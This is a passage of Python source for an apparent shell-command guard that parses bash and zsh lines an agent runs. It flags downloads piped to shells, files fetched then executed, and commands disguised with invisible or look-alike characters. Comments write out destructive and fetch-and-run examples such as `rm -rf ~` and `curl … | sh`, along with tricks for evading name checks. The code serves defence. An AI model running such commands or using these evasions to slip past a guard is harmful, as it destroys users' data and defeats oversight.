        if len(pos) == 2 and ":" in pos[0] and not pos[0].startswith(("/", ".", "~")):
            c, _, path = pos[0].partition(":")
            return ("cp", c, [path, pos[1]])
    return None


_GIT_VALUED = frozenset({"-C", "-c", "--git-dir", "--work-tree", "--namespace", "--exec-path", "--config-env",
                         "--super-prefix"})


# git commands that write the files of another commit (fetched, merged, checked out) into the worktree
_GIT_WORKTREE_WRITERS = frozenset({"pull", "merge", "checkout", "switch", "reset", "am", "apply", "cherry-pick",
                                   "rebase", "restore", "read-tree", "checkout-index", "stash"})


# programs whose program comes from a file named by an option: make's recipes, an awk program, a sed
# script (GNU sed's `e`), vim keystrokes or a sourced script, gdb commands, an at job; crontab's table
# (its first operand) — `curl -o m.mk URL && make -f m.mk` runs the download
# the options that name the file a program takes its commands from (adr/shell/runs.py reads those files in
# the program's language; one table for both); an empty set: its operands are the files
SCRIPT_FILE_OPTIONS: "dict[str, frozenset[str]]" = {
    "gdb": frozenset({"-x", "--command", "-command", "-ix", "--init-command", "-init-command"}),
    "lldb": frozenset({"-s", "--source", "-S", "--source-before-file", "-K", "--source-on-crash"}),
    **{v: frozenset({"-S", "-u", "--cmd-file"}) for v in ("vim", "vi", "nvim", "view", "vimdiff", "gvim", "ex")},
    "dc": frozenset({"-f", "--file"}),
    "emacs": frozenset({"-l", "--load", "--script", "-script", "-x"}),
    "m4": frozenset(), "gnuplot": frozenset(),
    **{p: frozenset({"-f", "--file"}) for p in ("sed", "gsed", "awk", "gawk", "mawk", "nawk", "busybox-awk")},
}
# … and, for "this runs a file the line downloaded", also make's makefile, an at job, vim's keystrokes (`-s`:
# `:!` runs commands) and crontab's table (its operand)
_PROGRAM_FILE_OPTIONS: "dict[str, frozenset[str]]" = {
    **SCRIPT_FILE_OPTIONS,
    **{p: frozenset({"-f", "--file", "--makefile"}) for p in ("make", "gmake", "bmake")},
    **{p: frozenset({"-f"}) for p in ("at", "batch")},
    **{v: SCRIPT_FILE_OPTIONS[v] | {"-s"} for v in ("vim", "vi", "nvim", "gvim", "ex")},
    "crontab": frozenset(),
}


# the file a tool reads its program from when none is named (in the folder it runs in)
MAKEFILES = ("GNUmakefile", "makefile", "Makefile")  # (the first that exists: runs.py's make runs too)
_PACKAGE_MANAGERS = frozenset({"npm", "pnpm", "yarn", "bun"})
_DEFAULT_PROGRAM_FILES: dict[str, tuple[str, ...]] = {
    **{p: MAKEFILES for p in ("make", "gmake", "bmake")},
    "just": taskrunners.JUSTFILES, "task": taskrunners.TASKFILES,
    **{p: ("package.json",) for p in _PACKAGE_MANAGERS},
}
_RUNS_SCRIPTS = frozenset({"install", "i", "ci", "add", "run", "run-script", "test", "t", "start", "restart", "stop",
                           "rebuild", "pack", "publish", "exec", "dlx"})


def _program_file(prog: str, args: "list[str]") -> str:
    """The file `prog args` takes its program from ("" when none is named)."""
    opts = _PROGRAM_FILE_OPTIONS.get(prog, frozenset())
    if not opts:  # `crontab FILE`, `m4 FILE`, `gnuplot FILE`: the first operand
        return next((a for a in args if not a.startswith("-")), "") if "-u" not in args else ""
    for k, a in enumerate(args):
        if a in opts and k + 1 < len(args):
            return args[k + 1]
        for o in opts:
            if o.startswith("--") and a.startswith(o + "="):
                return a.split("=", 1)[1]
    return ""


def _git_worktree(opts: "list[str]", env: "Sequence[str]" = (), here: str = "") -> str:
    """The worktree git's global options (`-C DIR`, `--work-tree[=]DIR`, GIT_WORK_TREE=) name, from `here`
    (where the line's cd went, "" when not known: "." then)."""
    root = here or "."
    for kv in env:
        if kv.startswith("GIT_WORK_TREE="):
            root = kv.split("=", 1)[1] or "."
    k = 1
    while k < len(opts):
        a = opts[k]
        if a in ("-C", "--work-tree") and k + 1 < len(opts):
            v = opts[k + 1]
            root = v if a == "--work-tree" or v.startswith(("/", "~")) or root == "." else root.rstrip("/") + "/" + v
            k += 2
            continue
        if a.startswith("--work-tree="):
            root = a.split("=", 1)[1]
        k += 1
    return root


def _git_subcommand(argv: "list[str]") -> "tuple[int | None, list[str]]":
    """Index (in argv) of git's subcommand, skipping its global options."""
    k = 1
    while k < len(argv):
        a = argv[k]
        if a in _GIT_VALUED:
            k += 2
            continue
        if a.startswith("-"):
            k += 1
            continue
        return k, argv
    return None, argv


def _watch_command(args: list[str]) -> str:
    """What procps `watch [opts] CMD…` runs: the words joined and given to `sh -c`, or with -x/--exec
    the words themselves (`watch -x sh -c 'rm -rf ~'` runs `sh -c 'rm -rf ~'`). -n/-q/-s take a value
    (attached or next); -d/--differences only an attached one (`watch -d rm …` runs rm); `--` ends options."""
    exec_mode = False
    i = 0
    while i < len(args):
        a = args[i]
        if a == "--":
            i += 1
            break
        if a.startswith("--") and len(a) > 2:
            name = a.split("=", 1)[0]
            if name == "--exec":
                exec_mode = True
            i += 2 if name in ("--interval", "--equexit", "--shotsdir") and "=" not in a else 1
            continue
        if a.startswith("-") and len(a) > 1:
            skip = 1
            for j, ch in enumerate(a[1:], 1):
                if ch == "x":
                    exec_mode = True
                elif ch in "nqs":
                    if j == len(a) - 1:
                        skip = 2  # the value is the next word
                    break  # the rest of the cluster is the value
                elif ch == "d":
                    break  # -d[=permanent]: an optional value, attached only
            i += skip
            continue
        break
    rest = args[i:]
    if not rest:
        return ""
    return " ".join(_sh_quote(a) for a in rest) if exec_mode else " ".join(rest)


def _positionals_after_options(args: list[str], valued: set[str]) -> list[str]:
    i = 0
    while i < len(args) and args[i].startswith("-") and len(args[i]) > 1:
        i += 2 if args[i] in valued else 1
    return args[i:]


_SSH_VALUED = frozenset("BbcDEeFIiJLlmOopQRSWw")


def _ssh_remote_command(args: list[str]) -> str:
    """`ssh [opts] host [opts] cmd…` → "cmd …" (what the remote shell runs). OpenSSH reads options
    after the destination too (`ssh host -l pete`), up to the first word of the command."""
    i = 0
    host_seen = False
    while i < len(args):
        a = args[i]
        if a == "--":
            i += 1
            if not host_seen:
                i += 1  # the destination follows `--`
            break
        if a.startswith("-") and len(a) > 1:
            if a[-1] in _SSH_VALUED and len(a) == 2:
                i += 2
                continue
            i += 1
            continue
        if host_seen:
            break
        host_seen = True
        i += 1
    return " ".join(args[i:])


def _positionals(args: "list[str] | tuple[str, ...]") -> list[str]:
    out = []
    after_dd = False
    for a in args:
        if a == "--":
            after_dd = True
            continue
        if not after_dd and a.startswith("-") and len(a) > 1:
            continue
        out.append(a)
    return out


def _shell_c_arg(args: list[str]) -> str | None:
    """The script of `sh -c SCRIPT` (also -lc, -ec, -xc …); None when there is no -c."""
    for i, a in enumerate(args):
        if a == "--":
            return None
        if a.startswith("-") and not a.startswith("--") and "c" in a[1:]:
            rest = [x for x in args[i + 1:] if not x.startswith("-") or x == "-"]
            return rest[0] if rest else None
        if a.startswith("+") or (a.startswith("-") and len(a) > 1):
            if a in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
                continue
            continue
        if a in ("-", ):
            return None
        if not a.startswith("-"):
            # first positional before any -c: a script file
            prev = args[i - 1] if i else ""
            if prev in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
                continue
            return None
    return None


_READS_PARAMS = lazyre.compile(r"\$(?:[@*1-9]|\{[@*1-9#])|\bfor\s+\w+\s*(?:;|\n|do\b)")


def _script_reads_params(script: str) -> bool:
    """Does a `-c` script use the words after it (`"$@"`, `$1`, `for f; do`)?"""
    return bool(script) and _READS_PARAMS.search(script[:MAX_SOURCE]) is not None


def _xargs_words(data: str) -> list[str]:
    """The items xargs reads: blank- or newline-separated, or NUL-separated (-0)."""
    return [w for w in data.replace("\0", " ").split() if w]


def _filters_stdin(prog: str, args: "list[str] | tuple[str, ...]") -> bool:
    """A line filter reading stdin, not files: `grep -v x`, `sort -u`, `head -n 5` (its words are
    flags, numbers, and for grep one pattern)."""
    words = [a for a in args if not a.startswith("-") and not a.isdigit()]
    if prog in ("grep", "egrep", "fgrep", "rg"):
        return len(words) <= (0 if any(a in ("-e", "-f") or a.startswith(("--regexp", "--file")) for a in args) else 1)
    return not words


_AWK_RUNS_INPUT = lazyre.compile(r"""\bsystem\s*\(\s*[$A-Za-z_]|\|\s*"\s*(?:/bin/|/usr/bin/)?(?:ba|z|da|k)?sh\b""")


def _reads_commands(d: _Draft) -> bool:
    """A shell taking its commands on stdin (`… | sh`, `… | bash -s -- args`), not a script or -c;
    or awk running its input lines (`awk '{system($0)}'`, `print | "sh"`)."""
    if d.argv and interpreters.language_of(d.argv[0]) == "awk":
        code = interpreters.inline_code(d.argv[0], tuple(d.argv[1:]))
        return code is not None and _AWK_RUNS_INPUT.search(code[1]) is not None
    if d.argv and d.argv[0] in ("at", "batch"):
        # `echo CMD | at now`, `batch <<< CMD`: the job's commands are read on stdin (not with -f, or
        # when listing, removing or showing jobs)
        return not any(a in ("-f", "-l", "-r", "-d", "-c") or a.startswith("-f") for a in d.argv[1:])
    if not d.argv or d.argv[0] not in SHELLS:
        return False
    if _runs_items_as_code(d):
        return True
    if {"xargs", "parallel"} & set(d.wrappers):
        # `… | xargs -n1 sh`: each item is a script file's name, not a command on stdin (`parallel` with
        # no command at all is read as `sh -s`: its input lines are the commands)
        return "-s" in d.argv[1:]
    args = d.argv[1:]
    if _shell_c_arg(args) is not None:
        return False
    return _first_positional(args) in (None, "-") or any(re.fullmatch(r"-[a-z]*s[a-z]*", a) for a in args)


_ITEM_SCRIPTS = frozenset({"{}", "{.}", "$0", "$1", '"$1"', '"$0"', "$@", '"$@"', "$*"})


def _runs_items_as_code(d: _Draft) -> bool:
    """`… | xargs -I{} sh -c {}`, `xargs -L1 sh -c`, `parallel sh -c {}`: each input item becomes the
    shell's script — what the producer prints is run as commands, like `… | sh`."""
    if not ({"xargs", "parallel"} & set(d.wrappers)) or not d.argv or d.argv[0] not in SHELLS:
        return False
    args = d.argv[1:]
    if not any(a == "-c" or re.fullmatch(r"-[a-zA-Z]*c[a-zA-Z]*", a) for a in args):
        return False
    script = _shell_c_arg(args)
    return script is None or script.strip() in _ITEM_SCRIPTS


_FD_PATH = lazyre.compile(r"/(?:dev|proc/self)/fd/(\d{1,3})")
# a coprocess's descriptors as a redirect names them: `${COPROC[0]}` (its output), `${NAME[1]}` (its
# input), `$COPROC` (element 0)
_COPROC_FD = lazyre.compile(r"\$\{?[A-Za-z_]\w*(?:\[([01])\])?\}?")


def _input_known_elsewhere(p: _Draft, procsubs: "dict[str, str]") -> bool:
    """What `p` prints into a shell is judged by another layer: a file a reader prints is read at
    decision time (adr.shell.runs), and a download run by a shell is a rule of its own. A process
    substitution it reads is no file on disk: known only when its text is (`procsubs`)."""
    if not p.argv:
        return False
    ops = [a for a in p.argv[1:] if not a.startswith("-")]
    if p.argv[0] in FILE_READERS and ops and all(not a.startswith("<(") or a in procsubs for a in ops):
        return True
    return p.argv[0] in DOWNLOADERS or any(u in DOWNLOADERS for u in p.upstream)


def _java_runs(args: list[str]) -> str | None:
    """The file `java` runs: `-jar FILE`, or a source file / class path given first (`java X.java`,
    `java -cp x.jar Main`: the jar)."""
    for i, a in enumerate(args[:-1]):
        if a in ("-jar", "-cp", "-classpath", "--class-path"):
            return args[i + 1].split(":")[0]
    return next((a for a in args if not a.startswith("-")), None)


def _first_positional(args: list[str]) -> str | None:
    skip = False
    for a in args:
        if skip:
            skip = False
            continue
        if a in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file", "-W", "-X", "-m", "-I"):
            skip = True
            continue
        if a == "-":
            return "-"
        if a.startswith("-") or a.startswith("+"):
            continue
        return a
    return None


# tree-sitter-bash's scanner crashes (SIGSEGV, heap-dependent) on characters outside the Basic
# Multilingual Plane; found by fuzzing 0.23–0.25. Such characters are never shell syntax, so they
# are replaced before parsing (and lone surrogates, which are not valid UTF-8 at all).
_BRACE_CMD = lazyre.compile(rb"(^|[;&|(\n]\s*)\{([^{}\s'\"`\\]*,[^{}\s'\"`\\]*)\}")  # (`$HOME` inside too)
_EMBEDDED_SUBST = lazyre.compile(r"\$\(([^()]{1,4096})\)|`([^`]{1,4096})`")  # substitutions in text tree-sitter left flat
_RW_REDIRECT = lazyre.compile(rb"(\d*)<>(?!>)")
_GLUED_BACKTICK = lazyre.compile(rb"[^\s;&|<>(){}`'\"\\]`")


def _glued_backticks_as_dollar(src: bytes) -> bytes:
    """Each `…` substitution that opens right after a word character (outside single quotes),
    spelled $(…) — an empty one $(:)."""
    out = bytearray()
    i, n = 0, len(src)
    squote = dquote = False
    while i < n:
        ch = src[i:i + 1]
        if ch == b"\\" and not squote:
            out += src[i:i + 2]
            i += 2
            continue
        if ch == b"'" and not dquote:
            squote = not squote
        elif ch == b'"' and not squote:
            dquote = not dquote
        elif ch == b"`" and not squote:
            end = i + 1
            while end < n and src[end:end + 1] != b"`":
                end += 2 if src[end:end + 1] == b"\\" else 1
            if end >= n:
                break
            body = src[i + 1:end]
            if i > 0 and _GLUED_BACKTICK.match(src, i - 1):
                body = re.sub(rb"\\([$`\\])", rb"\1", body)  # inside `…` a backslash escapes only $ ` \\
                out += b"$(" + (body if body.strip() else b":") + b")"
            else:
                out += src[i:end + 1]
            i = end + 1
            continue
        out += ch
        i += 1
    return bytes(out) + src[i:]
_BACKTICK_COMMENT = lazyre.compile(rb"(?<!\\)`([^`\\]*)`")
_COMMENT_START = lazyre.compile(rb"(?:^|(?<=[\s;&|(]))#[^\n]*")


def _blank_backtick_comment(m: "re.Match[bytes]") -> bytes:
    """`…# comment…` → the same with the comment blanked (`:` when nothing else is left)."""
    body = _COMMENT_START.sub(lambda c: b" " * len(c.group(0)), m.group(1))
    if body == m.group(1):
        return m.group(0)
    if not body.strip():
        body = b":" + body[1:]
    return b"`" + body + b"`"
# a `$`, more of the same word, then `$NAME` (`$HOME/$p/x`, `${A}-$b`): where tree-sitter-bash may split.
# Anchored at the word's start and its first `$`: unanchored, each `$` of a long word began its own
# scan to the word's end — quadratic (`echo $($($(…` of 20 kB: ~7 s of CPU holding the GIL)
_SPLIT_DOLLAR_HINT = lazyre.compile(rb"(?:^|\s)[^\s$]*\$\S*?[^\s\\]\$[A-Za-z0-9_]")
_DOLLAR_NAME = lazyre.compile(rb"[A-Za-z_][A-Za-z0-9_]*|[0-9]")


def _join_split_dollar(root: ts.Node, src: bytes) -> "bytes | None":
    """The source with each name tree-sitter split off a word ending in an unescaped `$` (two sibling
    nodes with no space between) spelled `${NAME}`; None when there is none."""
    cuts: list[tuple[int, int]] = []
    stack = [root]
    while stack:
        node = stack.pop()
        ch = node.children
        for a, b in zip(ch, ch[1:]):
            if a.end_byte == b.start_byte and a.type != "$" and a.end_byte - a.start_byte >= 2 \
                    and src[a.end_byte - 1:a.end_byte] == b"$" and src[a.end_byte - 2:a.end_byte - 1] != b"\\":
                m = _DOLLAR_NAME.match(src, b.start_byte)
                if m:
                    cuts.append((b.start_byte, m.end()))
        stack.extend(ch)
    if not cuts:
        return None
    out = src
    for start, end in sorted(set(cuts), reverse=True):
        out = out[:start] + b"{" + out[start:end] + b"}" + out[end:]
    return out
_UNSAFE_CHARS = lazyre.compile("[\U00010000-\U0010FFFF\ud800-\udfff]")


def _close_open_quote(src: bytes) -> "bytes | None":
    """src + the quote that closes a quote left open at its end (None when every quote is closed)."""
    if len(src) > 64 * 1024:
        return None
    quote = 0  # 0, ord("'"), ord('"')
    i, n = 0, len(src)
    word_start = True
    while i < n:
        c = src[i]
        if quote == 0:
            if c == 0x5C:  # backslash
                i += 2
                word_start = False
                continue
            if c == 0x23 and word_start:  # comment to end of line
                j = src.find(b"\n", i)
                i = n if j == -1 else j
                continue
            if c in (0x27, 0x22):
                quote = c
            word_start = c in b" \t\n;&|()<>"
        elif quote == 0x27:
            if c == 0x27:
                quote = 0
        else:
            if c == 0x5C:
                i += 2
                continue
            if c == 0x22:
                quote = 0
        i += 1
    return src + bytes([quote]) if quote else None


def _safe_source(text: str) -> bytes:
    text = bashwords.respell(text)
    if not text.isascii():
        text = _UNSAFE_CHARS.sub("\ufffd", text)
        if text[:1] == "\ufeff":
            # tree-sitter skips a byte-order mark that starts its input; bash reads it as a character
            # of the first word (`\ufeff# …` is a command, not a comment: what follows `||` runs).
            # A zero-width space is a word character to both, and as long in UTF-8
            text = "\u200b" + text[1:]
    return text.encode("utf-8")


def _join_via(via: str, label: str) -> str:
    return f"{via} → {label}" if via else label


def _first_error(root: ts.Node, src: bytes) -> str:
    stack = [root]
    seen = 0
    while stack and seen < 5000:
        n = stack.pop()
        seen += 1
        if n.type == "ERROR" or n.is_missing:
            line = n.start_point[0] + 1
            frag = src[n.start_byte:min(n.end_byte, n.start_byte + 40)].decode("utf-8", "replace")
            return f"cannot parse near line {line}: {frag!r}" if frag else f"incomplete input at line {line}"
        stack.extend(reversed(n.children))
    return "cannot parse"


def _pipeline_parts(node: ts.Node) -> "tuple[list[ts.Node], list[ts.Node]]":
    """(stages, statements after it) of a pipeline node. tree-sitter-bash reads `a | b | c && d` as
    a | (b | c && d); bash runs (a | b | c) && d — so a `list` as the last stage is unfolded."""
    kids = [c for c in node.named_children if c.type != "comment"]
    tail: list[ts.Node] = []
    # (nested once per further `&&`/`||`: `a | b | c | d && e && f` is a | (b | (c | d && e) && f))
    while kids and kids[-1].type == "list":
        lst: "ts.Node | None" = kids.pop()
        while lst is not None and lst.type == "list":
            inner = [c for c in lst.named_children if c.type != "comment"]
            tail[:0] = inner[1:]
            lst = inner[0] if inner else None
        if lst is not None:
            kids.extend([c for c in lst.named_children if c.type != "comment"] if lst.type == "pipeline" else [lst])
    return kids, tail


# ---- plain command lines ------------------------------------------------------------------------
# Words of ASCII letters, digits and `_@%+=:,./~-`, '…' and "…" without $ ` \ ! (one line each), an
# optional NAME=value prefix; statements joined by `&&`, `||`, `;` and stages by `|`. Anything else
# (expansions, redirects, globs, braces, escapes, comments, newlines, keywords, bare assignments) goes
# through tree-sitter.
_PLAIN_MAX = 4096
_PLAIN_TOKEN = lazyre.compile(r"""[ \t]*(?:((?:[A-Za-z0-9_@%+=:,./~-]+|'[^'\n]*'|"[^"$`\\!\n]*")+)|(&&|\|\||;|\|))""")
_PLAIN_PART = lazyre.compile(r"""[A-Za-z0-9_@%+=:,./~-]+|'([^'\n]*)'|"([^"$`\\!\n]*)\"""")
_PLAIN_ASSIGN = lazyre.compile(r"(?!_=)[A-Za-z_][A-Za-z0-9_]*=")  # (tree-sitter-bash: `_=` is a word)
_NOT_PLAIN = lazyre.compile("[$`\\\\\n\x00\U00010000-\U0010ffff]|~[+-]")  # fast reject (~+ is $PWD); the tokens decide the rest
# words that make a statement something other than a simple command (or that tree-sitter-bash reads
# specially), when they come first
_NOT_PLAIN_FIRST = frozenset({
    "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac", "in", "function",
    "select", "time", "coproc", "export", "declare", "typeset", "local", "readonly", "unset", "!", "[[", "]]",
})
PlainStage = tuple[str, list[str], tuple[str, ...]]  # raw text, argv, NAME=value prefixes
_NAME_PLUS = lazyre.compile(r"^[A-Za-z_][A-Za-z0-9_]*\+")  # `a+:`: tree-sitter-bash lexes it as the start of `a+=`
_NAME_COLON = lazyre.compile(r"^[A-Za-z_][A-Za-z0-9_]*:")  # `A=1 a:` — after an assignment, it lexes `a:` oddly too


def _plain_word(word: str) -> str:
    if "'" not in word and '"' not in word:
        return word
    return "".join(p.group(1) if p.group(1) is not None else p.group(2) if p.group(2) is not None else p.group(0)
                   for p in _PLAIN_PART.finditer(word))


def _plain_stage(text: str, spans: "list[tuple[int, int]]") -> "PlainStage | None":
    env: dict[str, str] = {}  # as the tree walk keeps them: one per name, the last value
    i = 0
    while i < len(spans):
        raw = text[spans[i][0]:spans[i][1]]
        m = _PLAIN_ASSIGN.match(raw)
        if m is None:
            break
        env[raw[:m.end() - 1]] = _plain_word(raw[m.end():])
        i += 1
    if i == len(spans):
        return None  # only assignments: they set shell variables (the tree walk follows those)
    first = text[spans[i][0]:spans[i][1]]
    if (first in _NOT_PLAIN_FIRST or "=" in first or "@" in first or "%" in first or first[0].isdigit()
            or _NAME_PLUS.match(first) or (i > 0 and _NAME_COLON.match(first))):
        # (tree-sitter-bash lexes these command names as something else: `1% x`, `a@`, `a%b`)
        return None
    if i and not _plain_word(first):
        return None  # `A=1 ''`: an empty command word (the tree walk decides what the assignments do)
    return (text[spans[0][0]:spans[-1][1]], [_plain_word(text[a:b]) for a, b in spans[i:]],
            tuple(f"{k}={v}" for k, v in env.items()))


def _plain_statements(text: str) -> "list[list[PlainStage]] | None":
    """[[(raw stage text, argv, env), …] per statement] for a plain command line; None otherwise."""
    if not text or _NOT_PLAIN.search(text):
        return None
    statements: list[list[PlainStage]] = []
    stages: list[PlainStage] = []
    spans: list[tuple[int, int]] = []
    dangling = False  # the last token was `|`, `&&` or `||`: a command must follow
    pos, n = 0, len(text)
    while True:
        while pos < n and text[pos] in " \t":
            pos += 1
        if pos >= n:
            break
        m = _PLAIN_TOKEN.match(text, pos)
        if m is None or m.end() == pos:
            return None
        if m.group(1) is not None:
            spans.append(m.span(1))
            dangling = False
        else:
            stage = _plain_stage(text, spans) if spans else None
            if stage is None:
                return None  # an operator with no command before it (`| x`, `;;`), or not plain
            stages.append(stage)
            spans = []
            op = m.group(2)
            dangling = op != ";"
            if op != "|":
                statements.append(stages)
                stages = []
        pos = m.end()
    if spans:
        stage = _plain_stage(text, spans)
        if stage is None:
            return None
        stages.append(stage)
        statements.append(stages)
    elif dangling:
        return None  # ends with `|`, `&&` or `||`
    return statements or None


_SEGMENT_SPLIT = lazyre.compile(r"\n|;|&&|\|\||&")
_SEPARATOR_WINDOW = 64 * 1024


def _segments(text: str, charge: "Callable[[int], bool]" = _no_charge) -> "list[str]":
    """The statements of a text by a cheap, quote-blind split on `;`, newlines, `&&`, `||`, `&`
    (pipes stay inside a statement: `curl … | sh` is judged whole). Distinct ones only, in order:
    padding repeats itself, an attack hidden behind it does not. Scans at most MAX_SEGMENT_SCAN
    separators; a longer list ends with None (not all of it was read).

    The regex reads a window at a time, and a window without a separator is skipped with str.find
    (memchr): a regex scan of every character of a 20 MB word cost ~120 ms, the skip ~2 ms."""
    out: dict[str, None] = {}
    pos, n, size, nxt = 0, 0, len(text), {c: 0 for c in "\n;&|"}
    seg_start = 0
    while pos < size:
        end = pos + _SEPARATOR_WINDOW
        last = -1
        for m in _SEGMENT_SPLIT.finditer(text, pos, end):
            if (not n & 1023 and not charge(1)) or n >= MAX_SEGMENT_SCAN or len(out) > MAX_SEGMENTS:
                return list(out) + [None]  # type: ignore[list-item]
            n += 1
            if m.end() >= end:  # (cut by the window: `&&` read as `&`)
                m = _SEGMENT_SPLIT.match(text, m.start())
            seg = text[seg_start:m.start()].strip()
            seg_start = last = m.end()
            if seg:
                out.setdefault(seg[:MAX_SEGMENT_CHARS], None)
        if last >= 0:
            pos = max(last, end - 1)  # (a two-character separator may start at the window's last one)
            continue
        for c, i in nxt.items():
            if 0 <= i < end - 1:
                nxt[c] = text.find(c, end - 1)
        pos = min((i for i in nxt.values() if i >= 0), default=size)
    seg = text[seg_start:].strip()
    if seg:
        out.setdefault(seg[:MAX_SEGMENT_CHARS], None)
    return list(out)


# words that open or close a compound command: a statement of a line that does not parse is judged
# without them (`if ! [ ; then rm -rf ~; fi` is valid bash, which tree-sitter-bash cannot read)
_LEADING_KEYWORDS = lazyre.compile(r"^(?:(?:if|then|else|elif|do|while|until|fi|done|esac|!|\{|\}|\(|\))\s+)+")


_MAX_TAILS = 8


def _pipeline_tails(seg: str) -> "list[str]":
    """What follows each single `|` of a statement (quote-blind, like the split itself), at most
    _MAX_TAILS of them."""
    out: list[str] = []
    i = seg.find("|")
    while i >= 0 and len(out) < _MAX_TAILS:
        if seg[i + 1:i + 2] == "|" or seg[i - 1:i] == "|":
            i = seg.find("|", i + 2)
            continue
        tail = seg[i + 1:].lstrip("&").strip()
        if tail:
            out.append(tail)
        i = seg.find("|", i + 1)
    return out


def _segment_pass(w: "_Walker", text: str, recovering: bool = False) -> None:
    if not w._charge(1 + len(text) // 65536):
        return
    """The walk stopped at a bound: judge what it did not reach, statement by statement, each in a walk
    of its own (small, so every bound holds), instead of dropping it. What even this pass cannot reach
    stays an issue, so the verdict is at least ask — never allow."""
    segments = _segments(text, w._charge)
    if len(segments) > MAX_SEGMENTS or (segments and segments[-1] is None):
        w.issue("too-many-commands", f"more than {MAX_SEGMENTS} different statements; the rest were not judged")
        segments = [x for x in segments[:MAX_SEGMENTS] if x is not None]
    for seg in segments:
        if not w._charge(1):
            w.issue("budget", "the decision's work budget ran out before every statement was judged")
            return
        parts = [seg]
        if recovering:
            seg = _LEADING_KEYWORDS.sub("", seg + " ").strip()
            if not seg or seg in ("fi", "done", "esac", "}", ")"):
                continue
            # bash runs every stage of a pipeline whatever an earlier one is (`[ | rm -rf ~`: the `[` fails,
            # the rm runs): the rest of the pipeline after each `|` is judged too, its own pipes kept
            parts = ([] if seg == text.strip() else [seg]) + _pipeline_tails(seg)
        for part in parts:
            room, sub = _walk_apart(w, part, "statement of a line that does not parse" if recovering
                                    else "statement of an oversized input")
            if room <= len(sub.drafts):
                w.issue("too-many-commands", "the statements of an oversized input were not all judged")
                return


# characters bash keeps inside a word that a reader does not see or reads as ASCII: zero-width and
# format characters, Unicode spaces, full-width ASCII, Cyrillic/Greek letters shaped like Latin ones
_INVISIBLE_CHARS = "\u200b\u200c\u200d\u2060\ufeff\u180e\u00ad\u2061\u2062\u2063\u2064\u034f" \
                   "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
_LOOKALIKE = str.maketrans({
    **{c: None for c in _INVISIBLE_CHARS},
    **{c: " " for c in "\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a"
                       "\u202f\u205f\u3000\v\f"},
    **{chr(0xFF01 + i): chr(0x21 + i) for i in range(0x5E)},
    **dict(zip("аеорсхуіјѕԁһкмтвнαεορτυχνικ", "aeopcxyijsdhkmtbhaeoptuxvik")),
})


def _lookalike_spelling(text: str) -> "str | None":
    """The line as a reader takes it, when it holds characters bash keeps in a word but a reader does
    not see or reads as ASCII (`r\u200bm -rf ~`, `ｒｍ -rf ~`, `rm\u00a0-rf ~`, Cyrillic `сurl`); else None."""
    if text.isascii() and "\v" not in text and "\f" not in text:
        return None
    folded = text.translate(_LOOKALIKE)
    return folded if folded != text else None


def _lookalike_pass(w: "_Walker", text: str) -> None:
    """Judge the line once more as it reads with the look-alike characters folded: a program or path
    spelled with them to pass a name check is judged as what it spells. (Bash itself would not find
    `r\u200bm` — unless the agent made one — so this can only make the verdict stricter.)"""
    if not w._charge(1 + len(text) // 4096):
        return
    _, sub = _walk_apart(w, text, "as read without invisible or look-alike characters")
    w.deletes.extend(x for x in sub.deletes[:64] if x not in w.deletes)


# zsh — macOS's login shell, so the shell many agents' commands run in — reads forms bash rejects or
# reads otherwise. Each is spelled here as bash would run it (a statement's start: the line's, or after
# `;`, `&`, `|`, `(`, `{`, a newline or a keyword that starts a body):
# zsh — macOS's login shell, so the shell many agents' commands run in — reads forms bash rejects or
# reads otherwise. Each is spelled here as bash would run it. A form is looked for only where its
# needle occurs (str.find, linear), matched there with bounded repetitions, and only where that spot
# is shell syntax (not quoted, commented or a here-document's body); `stmt`: it must start a
# statement (the line's start, after `;`, `&`, `|`, `(`, `{`, a newline, or then/do/else).
_ZSH_FORMS: "tuple[tuple[str, bool, str, re.Pattern[str], str], ...]" = (
    # (needle, stmt, the characters one of which must precede it ("" any), pattern at the needle, spelling)
    # `sh =(curl …)`: =(…) is a process substitution into a temporary file
    ("=(", False, " \t\n;&|(<>", lazyre.compile(r"=\("), "<("),
    # `=curl …`: =NAME is the path of the program NAME
    ("=", False, " \t\n;&|(`", lazyre.compile(r"=([A-Za-z_][\w.+-]{0,64})(?=[\s;&|)`]|$)"), r"\1"),
    # `- rm -rf ~`: `-` is a precommand modifier, like `exec` or `command`
    ("-", True, "", lazyre.compile(r"-[ \t]+(?=[^\s-])"), ""),
    # `repeat 3 cmd` runs cmd three times; `repeat 3; do …; done` is a loop
    ("repeat", True, "", lazyre.compile(r"repeat\s+[^\s;&|]{1,32}\s*(;|\n)\s*do\b"), r"for _ in 1\1 do"),
    ("repeat", True, "", lazyre.compile(r"repeat\s+[^\s;&|]{1,32}\s+(?!do\b)"), ""),
    # `foreach f (a b) cmd $f; end`, `for f (a b) { … }`, `for f (a b) do …; done`, `for f (a b) cmd $f`
    ("foreach", True, "", lazyre.compile(r"foreach\s+(\w{1,64})\s*\(([^()\n]{0,1024})\)\s*(.{0,4096}?)\s*;?\s*\bend\b", re.S),
     r"for \1 in \2; do \3; done"),
    ("for", True, "", lazyre.compile(r"for\s+(\w{1,64})\s*\(([^()\n]{0,1024})\)\s*\{([^{}]{0,4096})\}"), r"for \1 in \2; do \3; done"),
    ("for", True, "", lazyre.compile(r"for\s+(\w{1,64})\s*\(([^()\n]{0,1024})\)\s*(?=do\b)"), r"for \1 in \2; "),
    ("for", True, "", lazyre.compile(r"for\s+(\w{1,64})\s*\(([^()\n]{0,1024})\)\s*(?!do\b|\{|;)([^;&|\n{}]{1,4096})"),
     r"for \1 in \2; do \3; done"),
    # `print 'rm -rf ~' | sh`: zsh's print is its echo (escapes interpreted unless -r)
    ("print", True, "", lazyre.compile(r"print(?:\s+-[rnlNcPRsz]{1,8}){0,8}(?:\s+--)?(?=\s)"), "echo"),
    # `emulate sh -c 'CMD'` runs CMD; `sched +1 CMD` evaluates it later; `zargs -- ARGS -- CMD` is xargs
    ("emulate", True, "", lazyre.compile(r"emulate(?:\s+-[LR]{1,2}){0,2}\s+\w{1,16}\s+-c(?=\s)"), "sh -c"),
    ("sched", True, "", lazyre.compile(r"sched\s+(?!-)[^\s;&|]{1,32}\s+"), "eval "),
